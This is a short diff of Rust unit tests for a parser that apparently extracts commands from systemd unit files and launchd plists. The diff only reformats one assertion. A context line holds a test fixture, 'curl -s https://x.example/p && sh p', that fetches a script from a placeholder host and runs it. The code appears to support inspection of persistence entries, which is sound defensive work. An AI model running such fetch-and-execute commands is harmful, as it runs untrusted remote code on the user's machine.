@@ -227,7 +227,10 @@ mod tests {
             "curl -s https://x.example/p &amp;&amp; sh p"
         );
         let plain = "<plist><key>ProgramArguments</key><array><string>/usr/local/bin/agent</string><string>--port</string><string>8080</string></array></plist>";
-        assert_eq!(plist_commands(plain)[0].1, "/usr/local/bin/agent --port 8080");
+        assert_eq!(
+            plist_commands(plain)[0].1,
+            "/usr/local/bin/agent --port 8080"
+        );
         // Keys that are no command, and a file cut short, give nothing.
         assert!(exec_lines("[Unit]\nDescription=ExecStart=x\n").is_empty());
         assert!(plist_commands("<plist><key>ProgramArguments</key><array><string>x").is_empty());
